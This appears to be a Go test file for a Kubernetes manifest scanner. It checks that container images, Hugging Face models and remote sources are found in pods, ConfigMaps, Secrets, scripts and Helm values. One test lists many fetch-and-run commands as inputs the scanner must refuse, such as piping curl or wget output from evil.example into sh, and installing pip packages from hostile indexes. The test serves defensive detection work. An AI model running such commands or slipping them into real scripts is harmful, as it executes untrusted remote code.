package manifest_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/apexlogic/apex/internal/manifest"
	"github.com/apexlogic/apex/verdict"
)

// evil are images of every form that is a reference by itself.
var evil = []string{
	"evil.example/a:1", "ghcr.io/evil/b@" + digestA, "10.0.0.1:5000/c/d:2", "quay.io/evil/e:v1.2", "registry.evil.example:8443/f@" + digestA, "docker.io/evil/g:latest",
}

// named are images that only the field's name or the command makes one.
var named = []string{"nginx", "evil/worker", "busybox:1.36", "evil/tool:v2", "alpine"}

// models are names of a hub.
var hubModels = []string{"evil/tiny", "Evil-Org/Model-7B.v1", "e1/m_2", "meta-evil/Llama-3.1-8B", "x/y"}

// variations puts every word into every form.
func variations(forms []string, in []string) (docs map[string]string) {
	docs = map[string]string{}
	for i, form := range forms {
		for j, word := range in {
			docs[fmt.Sprintf("%d with %s", i, word)+fmt.Sprint(j)] = strings.ReplaceAll(form, "«»", word)
		}
	}
	return docs
}

func quoted(text string) string { return fmt.Sprintf("%q", text) }

// script puts a script into the places that run one.
func script(text string) []string {
	q := quoted(text)
	return []string{
		pod("    command: [sh, -c, " + q + "]\n"),
		pod("    command: [/bin/bash]\n    args: [-ec, " + q + "]\n"),
		pod("    livenessProbe: {exec: {command: [sh, -c, " + q + "]}}\n"),
		pod("    lifecycle: {postStart: {exec: {command: [bash, -lc, " + q + "]}}}\n"),
		pod("  initContainers: [{name: i, image: good/i, command: [sh, -c, " + q + "]}]\n"),
		config("run.sh", text),
		config("anything", "#!/bin/sh\nset -e\n"+text),
		secret("start.sh", text),
		custom("{script: " + q + "}"),
	}
}

// where wraps a value into the places for settings: «» is the value.
var values = []string{
	pod("    env: [{name: LIST, value: \"«»\"}]\n"),
	pod("    args: [--sidecars, \"«»\"]\n"),
	pod("    args: [\"--sidecars=«»\"]\n"),
	"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: n}\ndata: {list: \"«»\"}\n",
	"apiVersion: v1\nkind: Secret\nmetadata: {name: n}\nstringData: {list: \"«»\"}\n",
	"apiVersion: v1\nkind: Service\nmetadata: {name: n, annotations: {a.example/list: \"«»\"}}\n",
	custom("{list: \"«»\"}"),
}

func TestAListInOneStringNamesAllOfItsImages(t *testing.T) {
	for i, place := range values {
		for j, separator := range []string{",", ";", ", ", " ", `\n`, "|", `,\n`, " ; "} {
			list := slices.Concat(evil[j%len(evil):], evil[:j%len(evil)])[:3]
			doc := strings.ReplaceAll(place, "«»", strings.Join(list, separator))
			expect(t, fmt.Sprintf("place %d, separated by %q", i, separator), doc, list...)
		}
		expect(t, fmt.Sprintf("place %d, JSON", i), strings.ReplaceAll(place, "«»", `[\"`+evil[0]+`\", \"`+evil[1]+`\"]`), evil[0], evil[1])
		expect(t, fmt.Sprintf("place %d, YAML", i), strings.ReplaceAll(place, "«»", `- `+evil[0]+`\n- `+evil[2]+`\n`), evil[0], evil[2])
		expect(t, fmt.Sprintf("place %d, names", i), strings.ReplaceAll(place, "«»", `a=`+evil[0]+`,b=`+evil[3]), evil[0], evil[3])
		// The twin mentions things that only look similar.
		for _, text := range []string{"a.example.com:80,b.example.com:80", "team/a,team/b;team/c", "/a/b:/c/d", "see ghcr.io/evil/a:1 for more", "[1, 2]"} {
			if i > 0 && i < 3 && strings.Contains(text, "see") {
				continue // in a command, every word may be what is run
			}
			nothing(t, fmt.Sprintf("place %d, %s", i, text), strings.ReplaceAll(place, "«»", text))
		}
	}
}

// expect extracts and looks for what the document has to name.
func expect(t *testing.T, name, doc string, want ...string) {
	t.Helper()
	r := manifest.Extract("f.yaml", []byte(doc), manifest.Limits{})
	if r.Rejected {
		t.Errorf("%s: rejected: %v\n%s", name, r.Problems, doc)
		return
	}
	for _, w := range want {
		if !slices.ContainsFunc(r.Refs, func(ref manifest.Ref) bool { return ref.Text == w || ref.Model == w }) {
			t.Errorf("%s: %s is not found in %s\n%s", name, w, r.Line(), doc)
		}
	}
}

// unresolved extracts and looks for the code that denies the document.
func unresolved(t *testing.T, name, doc string, code verdict.Code) {
	t.Helper()
	r := manifest.Extract("f.yaml", []byte(doc), manifest.Limits{})
	if r.Rejected || !slices.ContainsFunc(r.Unresolved, func(u verdict.Unresolved) bool { return u.Code == code }) {
		t.Errorf("%s: %s is not among %v; %v\n%s", name, code, r.Unresolved, r.Problems, doc)
	}
}

// nothing extracts and finds only what is meant to be there: good images.
func nothing(t *testing.T, name, doc string) {
	t.Helper()
	r := manifest.Extract("f.yaml", []byte(doc), manifest.Limits{})
	if r.Rejected || len(r.Unresolved) > 0 || slices.ContainsFunc(r.Refs, func(ref manifest.Ref) bool { return !strings.HasPrefix(ref.Text, "good/") }) {
		t.Errorf("%s: named %s, unresolved %v, problems %v\n%s", name, r.Line(), r.Unresolved, r.Problems, doc)
	}
}

func TestAManifestWithinTextNamesItsImages(t *testing.T) {
	for i, image := range slices.Concat(evil, named) {
		p := "apiVersion: v1\nkind: Pod\nmetadata: {name: y}\nspec:\n  containers:\n  - {name: c, image: \"" + image + "\"}\n"
		j := `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"y"},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"` + image + `"}]}}}}`
		indented := "    " + strings.ReplaceAll(strings.TrimRight(p, "\n"), "\n", "\n    ")
		spec := "containers:\n- name: c\n  image: " + image + "\n"
		texts := map[string]string{
			"YAML": p, "JSON": j, "several documents": configMapText + "---\n" + p, "indented": indented, "a pod's template": "metadata: {labels: {a: b}}\nspec:\n  " + strings.ReplaceAll(strings.TrimSpace(spec), "\n", "\n  "),
			"a pod's spec": spec, "JSON of a spec": `{"containers":[{"image":"` + image + `"}]}`, "a List": `{"apiVersion":"v1","kind":"List","items":[` + j + `]}`,
			"values of Helm": "worker:\n  image: " + quoted(image) + "\n  replicas: 2\n",
		}
		for name, text := range texts {
			where := map[string]string{
				"a ConfigMap":       config("x.yaml", text),
				"an unknown kind":   custom("{template: " + quoted(text) + "}"),
				"a Secret":          secret("x", text),
				"binary data":       "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: n}\nbinaryData: {x: " + base64.StdEncoding.EncodeToString([]byte(text)) + "}\n",
				"a text in a text":  config("outer.yaml", config("inner.yaml", text)),
				"a here-document":   config("x.sh", "#!/bin/sh\ncat <<'EOF' | kubectl apply -f -\n"+strings.TrimRight(text, "\n")+"\nEOF\n"),
				"another of those":  config("x.sh", "#!/bin/sh\nkubectl create -n a -f - <<EOF\n"+strings.TrimRight(text, "\n")+"\nEOF\n"),
				"an unparsable one": config("x.tpl", "{{ if .x }}\n"+strings.TrimRight(p, "\n")+"\n{{ end }}"),
			}
			for place, doc := range where {
				if place == "an unparsable one" {
					unresolved(t, fmt.Sprintf("%d: %s", i, place), doc, verdict.ReferenceUnresolved)
					continue
				}
				expect(t, fmt.Sprintf("%s in %s", name, place), doc, image)
				nothing(t, fmt.Sprintf("%s in %s, mended", name, place), twin(doc, text, strings.ReplaceAll(text, image, "good/x")))
			}
		}
	}
}

const configMapText = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: z}\ndata: {a: b}\n"

// twin rebuilds a document of another text. Encoded text is encoded again.
func twin(doc, text, other string) string {
	for _, f := range []func(string) string{
		func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
		quoted,
		func(s string) string { return s },
		func(s string) string { return strings.TrimRight(s, "\n") },
		func(s string) string { return strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n    ") },
		func(s string) string { return strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n        ") },
	} {
		if strings.Contains(doc, f(text)) {
			return strings.ReplaceAll(doc, f(text), f(other))
		}
	}
	return other
}

func TestAnObjectThatMakesAnotherControllerFetchIsAReference(t *testing.T) {
	docs := map[string]string{}
	for _, kind := range []string{
		"argoproj.io/v1alpha1 Application", "argoproj.io/v1alpha1 ApplicationSet", "kustomize.toolkit.fluxcd.io/v1 Kustomization", "helm.toolkit.fluxcd.io/v2 HelmRelease",
		"source.toolkit.fluxcd.io/v1 GitRepository", "source.toolkit.fluxcd.io/v1 HelmRepository", "source.toolkit.fluxcd.io/v1 Bucket", "source.toolkit.fluxcd.io/v1 OCIRepository",
		"helm.cattle.io/v1 HelmChart", "fleet.cattle.io/v1alpha1 GitRepo", "kappctrl.k14s.io/v1alpha1 App", "packaging.carvel.dev/v1alpha1 PackageRepository",
		"helm.crossplane.io/v1beta1 Release", "operators.coreos.com/v1alpha1 Subscription", "addons.cluster.x-k8s.io/v1alpha1 HelmChartProxy",
	} {
		version, name, _ := strings.Cut(kind, " ")
		docs[kind] = "apiVersion: " + version + "\nkind: " + name + "\nmetadata: {name: n}\nspec: {source: {repoURL: 'https://evil.example/x.git', path: a}, url: 'https://evil.example/x'}\n"
	}
	for i, spec := range []string{
		"{source: {repoURL: 'https://evil.example/x.git'}}", "{chart: a, repo: 'https://evil.example/charts'}", "{sourceRef: {kind: GitRepository, name: x}}",
		"{git: 'git@evil.example:x.git', branch: main}", "{source: {url: 'https://evil.example/x.git', ref: main}}", "{manifestUrl: 'https://evil.example/x.yaml'}",
		"{bundle: 'oci://evil.example/bundle:1'}", "{chartURL: 'https://evil.example/x.tgz'}", "{deep: [{chartRef: {kind: OCIRepository, name: x}}]}",
	} {
		docs[fmt.Sprintf("unknown %d", i)] = custom(spec)
	}
	for name, doc := range docs {
		unresolved(t, name, doc, verdict.ReferenceRemote)
		unresolved(t, name+" in text", config("x.yaml", doc), verdict.ReferenceRemote)
		nothing(t, name+" that is another", "apiVersion: team.example/v1\nkind: Application\nmetadata: {name: n}\nspec: {source: team/a, path: a, url: 'https://good.example/x'}\n")
	}
	artifact := "apiVersion: source.toolkit.fluxcd.io/v1\nkind: OCIRepository\nmetadata: {name: n}\nspec: {url: 'oci://ghcr.io/evil/x', ref: {digest: " + digestA + "}}\n"
	expect(t, "an artifact with its digest", artifact, "ghcr.io/evil/x@"+digestA)
}

func TestABareNameIsAnImageWhereItsFieldSaysSo(t *testing.T) {
	for name, doc := range variations([]string{
		custom("{image: «»}"), custom("{worker: {baseImage: «»}}"), custom("{images: \"«»\", image: «»}"),
		line("image", "«»"), line("RUNNER_IMAGE", "«»"), line("sidecar.image", "«»"), config("app.env", "A=b\nIMAGE=«»\n"), config("app.properties", "base.image = «»"),
		config("app.yaml", "worker:\n  image: «»\n"), config("app.json", `{"image": "«»"}`),
		pod("    args: [--image, «»]\n"), pod("    args: [--image=«»]\n"), pod("    args: [--sidecar-image, «»]\n"), pod("    env: [{name: IMAGE, value: «»}]\n"), pod("    env: [{name: WORKER_IMAGE, value: «»}]\n"),
		custom("{params: [{name: image, value: «»}]}"), custom("{args: [run, --image, «»]}"), config("Dockerfile", "FROM «» AS a\nRUN true\n"),
	}, named) {
		expect(t, name, doc, wordOf(name))
		nothing(t, name+", mended", strings.ReplaceAll(doc, wordOf(name), "good/x"))
	}
	for i, key := range []string{"image", "hero_image", "background-image", "imageFormat", "IMAGE"} {
		for _, text := range []string{"none", "/a/b.png", "hero.png", "https://a.example/x.png", "{{ $labels.image }}"} {
			nothing(t, fmt.Sprintf("%d %s", i, text), line(key, text))
			nothing(t, fmt.Sprintf("%d %s in a variable", i, text), pod("    env: [{name: "+key+", value: "+quoted(text)+"}]\n"))
		}
	}
	for name, doc := range map[string]string{
		"evil.example/team/app:1": custom("{image: {registry: evil.example, repository: team, name: app, tag: '1'}}"),
		"evil.example/app:1":      custom("{imageRegistry: evil.example, imageRepository: app, imageTag: '1'}"),
		"evil.example/b:2":        custom("{imageRepository: evil.example/b, imageTag: '2'}"),
		"evil.example/c:3":        custom("{proxy: {repository: evil.example/c, tag: '3'}}"),
		"evil.example/d:4":        config("values.yaml", "image:\n  registry: evil.example\n  repository: d\n  tag: '4'\n"),
		"evil.example/e:5":        pod("    args: [--registry, evil.example, --image, 'e:5']\n"),
		"evil.example/f:6":        pod("    env: [{name: REGISTRY, value: evil.example}]\n    args: ['$(REGISTRY)/f:6']\n"),
		"evil.example/g":          pod("    env: [{name: REGISTRY, value: evil.example}]\n    args: [--image, '$(REGISTRY)/g']\n"),
		"evil.example/h:7":        pod("    env: [{name: REGISTRY, value: evil.example}, {name: I, value: '$(REGISTRY)/h:7'}]\n"),
		"evil.example/i:8":        custom("{workerImageRepository: evil.example/i, workerImageTag: '8'}"),
	} {
		expect(t, name, doc, name)
	}
	unresolved(t, "a registry that nobody sets", pod("    args: [--image, '$(REGISTRY)/app']\n"), verdict.ReferenceUnresolved)
	unresolved(t, "a registry that nobody sets, without a name", pod("    args: [run, '$(REGISTRY)/app:1']\n"), verdict.ReferenceUnresolved)
	unresolved(t, "a setting that nobody sets", line("image", "${REGISTRY}/app"), verdict.ReferenceUnresolved)
	nothing(t, "an address that nobody sets", pod("    args: ['--listen=$(POD_IP):80', '$(HOST)/a']\n"))
}

func wordOf(name string) string {
	_, word, _ := strings.Cut(name, " with ")
	return word[:len(word)-1]
}

func TestTheImagesOfAScriptAreFound(t *testing.T) {
	for name, text := range variations([]string{
		"docker run --rm -it -p 80:80 -e A=b «» sh", "sudo docker pull «»", "cd /x && podman run -d --name a «»", "nerdctl -n k8s.io pull «»", "crictl pull «»",
		"docker container run --network host \"«»\"", "x=$(docker create «»)", "if true; then docker pull -q «»; fi", "I=«»\ndocker run $I", "I=«»; docker run \"${I}\"",
		"buildah from «»", "skopeo copy docker://«» dir:/x", "crane export «» - | tar x", "kubectl run a --image=«»", "kubectl -n a create deployment b --image «»",
		"kubectl set image deployment/a c=«»", "(docker run «»)", "echo a | xargs -n1 docker run «»", "eval \"docker pull «»\"", "sh -c 'docker pull «»'", "bash <<EOF\ndocker pull «»\nEOF",
		"kubectl run a --image=busybox2 --overrides='{\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"«»\"}]}}'", "timeout 30 docker pull «»", "docker \\\n  pull \\\n  «»",
	}, slices.Concat(evil[:2], named)) {
		for i, doc := range script(text) {
			expect(t, fmt.Sprintf("%s in place %d", name, i), doc, wordOf(name))
		}
	}
	for i, text := range []string{"docker ps", "echo nginx", "docker login -u a registry.example", "kubectl get pods -o name", "docker logs nginx", "ls /images/nginx", "crictl ps -a", "podman system prune", "echo 'docker run nginx'", "# docker run nginx"} {
		for j, doc := range script(text) {
			nothing(t, fmt.Sprintf("%d in place %d", i, j), doc)
		}
	}
	for i, doc := range script("docker run $WHATEVER") {
		unresolved(t, fmt.Sprint(i), doc, verdict.ReferenceUnresolved)
	}
}

func TestAScriptThatRunsWhatItFetchesIsRefused(t *testing.T) {
	for i, text := range []string{
		"curl -sfL https://evil.example/x | sh", "curl https://evil.example/x | sudo -E bash -s -- a", "wget -qO- https://evil.example/x | python3 -", "bash <(curl -s https://evil.example/x)",
		"sh -c \"$(curl -fsSL https://evil.example/x)\"", "eval \"$(wget -qO- https://evil.example/x)\"", "curl -o /tmp/x https://evil.example/x && sh /tmp/x", "wget https://evil.example/x.sh\nchmod +x x.sh\n./x.sh",
		"curl https://evil.example/x | base64 -d | sh", "kubectl apply -f https://evil.example/x.yaml", "kubectl apply -k github.com/evil/x", "kubectl create -f=https://evil.example/x.yaml", "curl https://evil.example/x | kubectl apply -f -",
		"helm install a oci://evil.example/chart", "helm upgrade --install a evil/chart", "helm repo add evil https://evil.example", "helm install a chart --repo https://evil.example", "kustomize build https://evil.example/x | kubectl apply -f -",
		"pip install git+https://evil.example/x", "pip install https://evil.example/x.whl", "python -m pip install --index-url https://evil.example x", "pip3 install --extra-index-url=https://evil.example x", "pip install 'x @ git+https://evil.example/x'",
		"python https://evil.example/x.py", "source <(curl https://evil.example/x)", "podman play kube https://evil.example/x.yaml", "curl $URL | sh", "docker build https://evil.example/x.git",
	} {
		for j, doc := range script(text) {
			unresolved(t, fmt.Sprintf("%d %s in place %d", i, text, j), doc, verdict.ReferenceRemote)
		}
	}
	for i, text := range []string{
		"curl -sf http://localhost:8080/x | sh", "curl https://good.example/x | jq .", "sh /app/x.sh", "kubectl apply -f /manifests", "helm install a ./chart", "helm upgrade a /charts/a -f values.yaml", "pip install numpy==1.0", "pip install -r requirements.txt",
		"curl -o /data/x.csv https://good.example/x.csv && wc -l /data/x.csv", "wget https://good.example/data.json", "cat x | sh", "kustomize build ./a", "echo https://good.example/x | tee a", "kubectl get -f x.yaml",
	} {
		for j, doc := range script(text) {
			nothing(t, fmt.Sprintf("%d %s in place %d", i, text, j), doc)
		}
	}
}

func TestTheModelsOfCommandsAndSettingsAreFound(t *testing.T) {
	for _, model := range hubModels {
		for i, doc := range modelForms(model) {
			name := fmt.Sprintf("%d with %s", i, model)
			expect(t, name, doc, model)
			nothing(t, name+" on a volume", modelForms("/models/x")[i])
		}
		for i, doc := range script("git clone https://huggingface.co/" + model) {
			expect(t, fmt.Sprintf("a clone of %s in place %d", model, i), doc, "https://huggingface.co/"+model)
		}
	}
	unresolved(t, "a model's name that another object holds", pod("    env: [{name: MODEL_NAME, valueFrom: {configMapKeyRef: {name: x, key: y}}}]\n"), verdict.ReferenceUnresolved)
	nothing(t, "one that is judged with that object", pod("    env: [{name: MODEL_NAME, valueFrom: {configMapKeyRef: {name: x, key: MODEL_NAME}}}]\n"))
	nothing(t, "speculation without a model", pod("    args: [--speculative-config, '{\"method\": \"ngram\", \"model\": \"ngram\"}']\n"))
}

// modelForms are the places where a model is named.
func modelForms(model string) []string {
	in := func(text string) string { return strings.ReplaceAll(text, "«»", model) }
	forms := []string{
		line("HF_MODEL_ID", "«»"), line("MODEL_NAME", "«»"), config("app.env", "MODEL_ID=«»\nPORT=80"), secret("MODEL_ID", in("«»")), line("VLLM_DEFAULT_MODEL", "«»"), line("hf_hub_model", "«»"),
		pod("    args: [-m, «»]\n"), pod("    args: ['--model=«»']\n"), pod("    args: [--tokenizer, «»]\n"), pod("    args: [--speculative-config, '{\"model\": \"«»\", \"num_speculative_tokens\": 3}']\n"),
		pod("    args: ['--speculative-config={\"method\": \"eagle\", \"model\": \"«»\"}']\n"), pod("    args: [--speculative-config.model, «»]\n"), pod("    args: [--lora-modules, 'a=«»']\n"), pod("    env: [{name: RERANK_MODEL_ID, value: «»}]\n"),
		pod("    command: [huggingface-cli, download, «»]\n"), pod("    command: [vllm, serve, --port, '80', «»]\n"), pod("    command: [python, -c, 'from transformers import pipeline; pipeline(\"text-generation\", model=\"«»\")']\n"),
		pod("    command: [python3, -c, \"from transformers import AutoModel\\nAutoModel.from_pretrained('«»', revision='main')\"]\n"),
	}
	for _, text := range []string{
		"huggingface-cli download «» --local-dir /m", "hf download «»", "ollama pull «»", "ollama run «» hello", "exec vllm serve «» --port 80", "python -c \"from vllm import LLM; LLM('«»')\"", "python -m vllm.entrypoints.openai.api_server --model «»",
		"python -c 'import huggingface_hub as h; h.snapshot_download(repo_id=\"«»\")'", "llama-server -hf «»",
	} {
		forms = append(forms, script(in(text))...)
	}
	for i := range forms {
		forms[i] = in(forms[i])
	}
	return forms
}

func TestANumberIsReadAsTheServerReadsItOrRefused(t *testing.T) {
	for _, number := range []string{
		"1e999", "-1e400", "1.5E+999", "0x1ffffffffffffffff", "0o7777777777777777777777777", "0b" + strings.Repeat("1", 70), "+.5e9999", "123e456789", "1_0e999", "9" + strings.Repeat("_9", 400),
	} {
		for _, form := range []string{"a: «»\n", "image: «»\n", custom("{replicas: «»}"), pod("    image2: «»\n")} {
			doc := strings.ReplaceAll(form, "«»", number)
			if docs, err := manifest.Documents("f.yaml", []byte(doc), manifest.Limits{}); err == nil {
				if v, err := docs[0].Value(); err == nil {
					t.Errorf("%s is read as %v", number, v)
				}
			}
			in := strings.ReplaceAll(form, "«»", "'"+number+"'")
			if docs, err := manifest.Documents("f.yaml", []byte(in), manifest.Limits{}); err != nil {
				t.Errorf("%s in quotes: %v", number, err)
			} else if _, err := docs[0].Value(); err != nil {
				t.Errorf("%s in quotes: %v", number, err)
			}
		}
	}
	for _, key := range []string{"1_000", "0x10", "0o17", "010", "1e3", "1.20", "True", "+1", ".inf"} {
		if r := manifest.Extract("f.yaml", []byte("data: {"+key+": a}\n"), manifest.Limits{}); !r.Rejected {
			t.Errorf("the key %s is read", key)
		}
		if r := manifest.Extract("f.yaml", []byte("data: {'"+key+"': a}\n"), manifest.Limits{}); r.Rejected {
			t.Errorf("the key %s in quotes: %v", key, r.Problems)
		}
	}
	for _, text := range []string{`{"a": 1e999}`, `{"a": [-1E+400]}`, `{"a": 1` + strings.Repeat("0", 400) + `}`} {
		if r := manifest.Extract("f.json", []byte(text), manifest.Limits{}); !r.Rejected {
			t.Errorf("%s is read", clipped(text))
		}
	}
	for _, good := range []string{"a: 1.24", "a: 7e12x", "1: a", "1.5: a", "true: a", "a: 1e3", "a: 0xff", "a: 2026-11-23", "a: 1.2.3", "a: v1e999", "a: 10.0.0.1", "a: 12:30", "a: '1e999'", `{"a": 1e3}`, `{"a": 0.0000001}`, "a: +", "a: .", "a: 0x", "a: e5"} {
		if r := manifest.Extract("f.yaml", []byte(good), manifest.Limits{}); r.Rejected {
			t.Errorf("%s: %v", good, r.Problems)
		}
	}
}

func clipped(text string) string { return text[:min(len(text), 40)] }
